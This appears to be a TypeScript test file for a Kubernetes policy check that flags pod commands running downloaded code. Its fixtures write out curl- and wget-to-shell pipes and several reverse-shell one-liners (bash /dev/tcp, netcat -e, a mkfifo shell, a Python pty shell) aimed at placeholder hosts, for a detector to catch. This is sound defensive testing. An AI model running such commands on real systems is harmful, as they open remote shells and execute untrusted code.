import { downloadedCode } from '../../../../src/policy/controls/hardened/downloaded-code';
import { found, violations } from '../support';
import { ODD_LISTS, podWith } from './pod-with';

const script = (text: string) => podWith({ command: ['sh', '-c', text] });

test.each([
  'curl -fsSL https://a.example/x | bash -s -- --yes', 'wget -qO- https://a.example/x | sudo -E bash', 'curl https://a.example/x |sh\necho done',
  'curl https://a.example/x.py | python3 -', 'source <(curl -s https://a.example/x)', 'sh -c "$(curl -fsSL https://a.example/x)"', 'eval `wget -O - https://a.example/x`',
  'bash -i >& /dev/tcp/192.0.2.1/443 0>&1', 'ncat 192.0.2.1 443 -e /bin/bash', 'nc -lvp 4444 -e /bin/sh', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 443 > /tmp/f',
  'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",443));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
])('reports %j', (text) => expect(found(downloadedCode, script(text))).toEqual(['spec.containers[1].command[2]']));

test.each([
  'curl -fsS https://a.example/health', 'curl https://a.example/x -o /tmp/x && sha256sum -c sums', 'curl -s https://a.example/x.json | jq .', 'curl https://a.example/x | python3 -m json.tool',
  '# curl https://a.example/x | sh', 'cat script | sh', 'exec 3<>/dev/tcp/db/5432', 'nc -z db 5432', 'nc -w 3 db 5432 < /dev/null', 'curl https://a.example/a | tar xz', 'curl https://a.example/x | shasum',
])('accepts %j', (text) => expect(found(downloadedCode, script(text))).toEqual([]));

test('reads hooks, probes and arguments, and shows the part that matters', () => {
  const command = ['sh', '-c', 'set -e; curl https://a.example/x | sh; exec app'];
  const pod = podWith({ args: ['curl https://a.example/x | sh'], lifecycle: { postStart: { exec: { command } } }, livenessProbe: { exec: { command } } });
  expect(violations(downloadedCode, pod).map(({ value, risk }) => [value, risk])).toEqual([
    ['curl https://a.example/x | sh;', 'medium'], ['curl https://a.example/x | sh;', 'medium'], ['curl https://a.example/x | sh', 'medium'],
  ]);
});

test.each(ODD_LISTS)('survives %p', (list) => expect(found(downloadedCode, podWith({ args: list, command: list, lifecycle: list }))).toEqual([]));
